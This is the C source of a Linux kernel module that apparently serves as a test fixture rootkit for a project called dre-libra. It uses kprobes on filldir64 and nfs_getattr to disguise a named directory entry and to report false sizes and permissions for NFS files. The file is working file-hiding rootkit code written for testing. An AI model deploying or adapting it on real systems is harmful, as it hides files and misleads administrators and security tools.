// SPDX-License-Identifier: GPL-2.0-only
/*
 * A root-kit for the tests of dre-libra, and for nothing else: in the guest it is loaded in, it gives another name to
 * getdents(2) for a file, and another size and mode to stat(2) for files on NFS.
 *
 * hide=NAME: entries of that name are listed as ".". small=SIZE: who is that long is told to be 4096 octets long.
 * open=MODE: who has these permissions is told to be 0644.
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/stat.h>
#include <linux/string.h>

static char *hide = "";
static long small = -1;
static int open = -1;
module_param(hide, charp, 0);
module_param(small, long, 0);
module_param(open, int, 0);

/* bool filldir64(struct dir_context *, const char *name, int length, loff_t, u64, unsigned int) */
static int on_name(struct kprobe *probe, struct pt_regs *regs)
{
	size_t length = strlen(hide);

	if (length && regs->dx == length && !memcmp((char *)regs->si, hide, length)) {
		regs->si = (unsigned long)".";
		regs->dx = 1;
	}
	return 0;
}

static struct kprobe names = { .symbol_name = "filldir64", .pre_handler = on_name };

/* int nfs_getattr(struct user_namespace *, const struct path *, struct kstat *, u32, unsigned int) */
static int on_stat(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	*(struct kstat **)instance->data = (struct kstat *)regs->dx;
	return 0;
}

static int after_stat(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct kstat *stat = *(struct kstat **)instance->data;

	if (regs_return_value(regs))
		return 0;
	if (small >= 0 && stat->size == small)
		stat->size = 4096;
	if (open >= 0 && (stat->mode & 07777) == open)
		stat->mode = (stat->mode & ~07777) | 0644;
	return 0;
}

static struct kretprobe stats = {
	.kp.symbol_name = "nfs_getattr",
	.entry_handler = on_stat,
	.handler = after_stat,
	.data_size = sizeof(struct kstat *),
	.maxactive = 64,
};

static int __init liar_init(void)
{
	int failed = register_kprobe(&names);

	if (failed)
		return failed;
	failed = register_kretprobe(&stats);
	if (failed)
		unregister_kprobe(&names);
	return failed;
}

static void __exit liar_exit(void)
{
	unregister_kretprobe(&stats);
	unregister_kprobe(&names);
}

module_init(liar_init);
module_exit(liar_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("lies of files in a guest of the tests of dre-libra");
